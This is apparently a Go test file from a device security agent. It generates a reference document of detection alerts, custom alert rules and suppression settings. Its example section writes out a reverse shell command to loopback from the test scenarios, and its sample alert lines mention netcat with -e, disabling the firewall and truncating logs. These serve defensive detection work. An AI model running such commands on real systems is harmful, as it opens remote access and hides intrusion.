package detect

import (
	"flag"
	"fmt"
	"log/slog"
	"os"
	"strings"
	"testing"
)

var updateAlertDocs = flag.Bool("update-docs", false, "rewrite docs/alerts.md from the rule catalogue")

// alertReference renders docs/alerts.md from the rules of a default Stage.
func alertReference(t *testing.T) string {
	s, err := New(Options{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	b.WriteString("# Alert and recommendation reference\n\n")
	b.WriteString("<!-- Generated from the detect package's rules by `go test ./detect -run TestAlertReference -update-docs`. Do not edit. -->\n\n")
	b.WriteString(alertIntro)
	b.WriteString(exampleDoc)
	row := func(r Rule) {
		fmt.Fprintf(&b, "| `%s` | %s | %s | %s | %s | %s | %s |\n", r.ID, esc(r.Name), r.Severity, r.Origin, esc(r.Trigger), strings.Join(r.Inputs, ", "), esc(r.Remediation))
	}
	head := "| id | name | default severity | origin | what raises it | events read | remediation |\n|---|---|---|---|---|---|---|\n"
	b.WriteString("## Alerts (SecurityAlert)\n\n" + head)
	for _, r := range s.Rules() {
		if r.Kind == KindAlert && r.Origin != "Custom" {
			row(r)
		}
	}
	b.WriteString("\n## Recommendations (SecurityRecommendation)\n\nRaised with State `Active` while the condition holds, reported again with State `Resolved` (same `Entity`) when a later observation no longer shows it.\n\n" + head)
	for _, r := range s.Rules() {
		if r.Kind == KindRecommendation {
			row(r)
		}
	}
	b.WriteString("\n## Custom alerts (twin key `customAlerts`)\n\n" + customIntro + head)
	for _, r := range s.Rules() {
		if r.Origin == "Custom" {
			row(r)
		}
	}
	b.WriteString("\n" + suppressDoc)
	return b.String()
}

func esc(s string) string { return strings.ReplaceAll(strings.ReplaceAll(s, "|", `\|`), "\n", " ") }

const alertIntro = `edgesec analyses its raw events on the device (package ` + "`detect`" + `, a processing stage between the
collectors and the aggregator) and raises two extension events, with JSON Schemas in ` + "`schemas/edgesec`" + `:

- ` + "`SecurityAlert`" + ` (Triggered, High priority by default): AlertType (the id below), DisplayName, Severity,
  Description, Remediation, the triggering events' ids and names, and the entity (executable, command line, user,
  pid, parent, container, module, image, remote address, ports). ` + "`Count`" + ` says how many times the same rule fired
  for the same entity since its previous report (repeats within 10 minutes are folded into the next report).
- ` + "`SecurityRecommendation`" + ` (Periodic, High priority by default): RecommendationType, Name, Severity, State
  Active/Resolved, Entity, Evidence, Remediation, FirstSeenUtc.

Alerts and recommendations are never aggregated (aggregation applies to ProcessCreate, ConnectionCreate and
ProcessTerminate only) and go through the same spool as every other event when the transport is down.
Ids starting with ` + "`IoT_`" + ` are ASC for IoT's AlertType/RecommendationType ids (or, for the ones ASC listed without an
id, the same style); ` + "`ES_`" + ` ids are edgesec's (from Falco rules); ` + "`Custom_`" + ` ids are the custom alerts.

The ` + "`ES_`" + ` rules on ` + "`KernelActivity`" + ` need the eBPF kernel source (` + "`collector/kernel`" + ` with Activity on); they see what
its watched paths cover (the ` + "`kernelWatchedPaths`" + ` configuration key, ` + "`kernel.DefaultWatchedPaths`" + ` by default) and calls at their entry, so an attempt the kernel refuses is reported
too. On the proc connector fallback there are no kernel events, and the rules on file writes (history cleared by a
shell built-in, log truncation with ` + "`>`" + `) are command-line proxies; there a binary that exits within microseconds on a
loaded machine can be gone before the process collector reads its command line (poll mode misses short processes
entirely). ` + "`ES_DropAndExecuteNewBinaryInContainer`" + ` sees only files written under watched paths (binary directories by
default: add ` + "`{\"prefix\": \"/tmp/\", \"ops\": \"write\"}`" + ` to ` + "`kernelWatchedPaths`" + ` to cover drops there) while edgesec runs, and
a file written by one container's image build step and run in a later step is also reported.

`

const exampleDoc = `## Example

A reverse shell started on a test machine (` + "`timeout 2 bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'`" + `, from the
scenario corpus, ` + "`go test -run TestScenarios ./detect/`" + `, whose test binary is the parent; the trigger's command line
ends with a comment naming the test's temporary directory, ` + "`$T`" + `) left the detect stage 2 ms after the exec as this
event:

` + "```json" + `
{
  "Id": "1661811b-a1ab-4e0a-ab8c-05ac13d146a4",
  "TimestampLocal": "2026-12-06T13:37:18.184Z",
  "TimestampUTC": "2026-12-06T13:37:18.184Z",
  "Category": "Triggered",
  "Name": "SecurityAlert",
  "EventType": "Security",
  "IsEmpty": false,
  "PayloadSchemaVersion": "1.0",
  "Payload": [{
    "AlertType": "IoT_ReverseShell",
    "DisplayName": "Reverse shells",
    "Severity": "High",
    "Description": "/usr/bin/timeout: redirects a shell to /dev/tcp/127.0.0.1/9",
    "Remediation": "Kill the process and its parent, find how it was started (a web shell, a compromised service, a stolen login) and rotate the device's credentials.",
    "TriggerEventIds": ["d3923938-53e6-4c9b-9817-e3e6722392e4"],
    "TriggerEventNames": ["ProcessCreate"],
    "Executable": "/usr/bin/timeout",
    "CommandLine": "timeout 2 bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1 # $T",
    "UserId": "0",
    "UserName": "root",
    "ProcessId": 16993,
    "ParentProcessId": 16958,
    "ParentExecutable": "/tmp/go-build1667061938/b001/detect.test",
    "RemoteAddress": "127.0.0.1",
    "RemotePort": "9",
    "Count": 1
  }]
}
` + "```" + `

` + "`edgesec alerts FILE|-`" + ` (messages as the file transport or an MQTT subscriber writes them; ` + "`--json`" + ` for JSON lines)
shows a stream of them as a table (` + "`$T`" + ` stands for the test's temporary directory); ` + "`detect.FormatLine`" + ` renders
one line per alert or recommendation (see the package example):

` + "```" + `
TIME (UTC)           KIND   SEVERITY  STATE  ID                            ENTITY                    DETAILS
2026-12-06 13:38:10  alert  High      -      IoT_ReverseShell              pid 20156 root 127.0.0.1  /usr/bin/timeout: redirects a shell to /dev/tcp/127.0.0.1/9
2026-12-06 13:38:10  alert  High      -      ES_NetcatRemoteCodeExecution  pid 20162 root            $T/nc was started with -e: whoe…
2026-12-06 13:38:10  alert  High      -      IoT_DisableFirewall           pid 20163 root            /usr/sbin/xtables-nft-multi: sets the INPUT policy to ACCEPT
2026-12-06 13:38:11  alert  Medium    -      IoT_RemovalOfSystemLogs       pid 20181 root            /usr/bin/rm removes or truncates the system log /var/log/ed…
` + "```" + `

`

const customIntro = `Custom alerts are Low severity, as in ASC. The twin value is a JSON array of rules:

` + "```json" + `
"customAlerts": {"value": [
  {"type": "ProcessNotAllowed", "allow": ["sshd", "bash", "/usr/lib/systemd/*"]},
  {"type": "ConnectionToIpNotAllowed", "allow": ["10.0.0.0/8", "192.168.0.0/16"]},
  {"type": "LocalUserNotAllowed", "deny": ["guest"]},
  {"type": "FailedLocalLoginsNotInAllowedRange", "min": 0, "max": 2, "window": "PT5M"},
  {"type": "ActiveConnectionsNotInAllowedRange", "min": 0, "max": 30, "window": "PT5M", "isEnabled": false}
]}
` + "```" + `

List rules take ` + "`allow`" + ` (alert on anything else) or ` + "`deny`" + ` (alert on these). Process names are base names, or
paths when they contain ` + "`/`" + `; shell globs are allowed. Address lists are IPs or CIDRs; loopback connections are
ignored. Range rules count in tumbling windows (` + "`window`" + `, ISO 8601, at least PT1M) and alert when the count of
a closed window is below ` + "`min`" + ` or above ` + "`max`" + `. A list that does not parse, an unknown type or a bad range
gives a ConfigurationError and the previous custom alerts stay in force.

`

const suppressDoc = `## Turning rules off, changing severities, suppressing alerts

Twin keys (desired properties object, each wrapped as ` + "`{\"value\": …}`" + `; see docs/configuration.md):

- ` + "`detectionRulesDisabled`" + `: comma-separated ids not to run, e.g. ` + "`\"IoT_SuccessfulLocalLogin,IoT_OpenPorts\"`" + `. A disabled
  recommendation resolves its Active findings at its next evaluation.
- ` + "`detectionRuleSeverities`" + `: ` + "`RULE=severity`" + ` pairs (high, medium, low), e.g. ` + "`\"IoT_FailedLocalLogin=low\"`" + `.
- ` + "`detectionSuppressions`" + `: a JSON array of suppressions; every field given must match the alert:
  ` + "`rule`" + `, ` + "`executable`" + ` (path or base name, glob), ` + "`user`" + ` (name or uid), ` + "`containerId`" + ` (id or prefix),
  ` + "`module`" + `, ` + "`remoteAddress`" + ` (IP or CIDR), ` + "`entity`" + ` (glob). Example:
  ` + "`[{\"rule\": \"IoT_SuccessfulLocalLogin\", \"user\": \"backup\"}, {\"executable\": \"/opt/vendor/*\"}]`" + `.
- ` + "`eventPrioritySecurityAlert`" + ` / ` + "`eventPrioritySecurityRecommendation`" + `: Off stops sending them at all.

A configuration with an unknown rule id, a bad severity or a bad suppression is refused as a whole with a
ConfigurationError; the previous one stays in force. In code: ` + "`detect.Options.Config`" + `, ` + "`Stage.Configure`" + `,
` + "`Stage.ApplyConfig`" + `, and ` + "`detect.BuiltinOptions`" + ` (allowed ports, trusted images, extra service names, brute force
thresholds). Every suppressed, deduplicated, rate-limited or disabled alert is counted in ` + "`Stage.Stats`" + `.
`

func TestAlertReference(t *testing.T) {
	const path = "../docs/alerts.md"
	want := alertReference(t)
	if *updateAlertDocs {
		if err := os.WriteFile(path, []byte(want), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update-docs)", err)
	}
	if string(got) != want {
		t.Fatalf("%s is out of date: go test ./detect -run TestAlertReference -update-docs", path)
	}
}
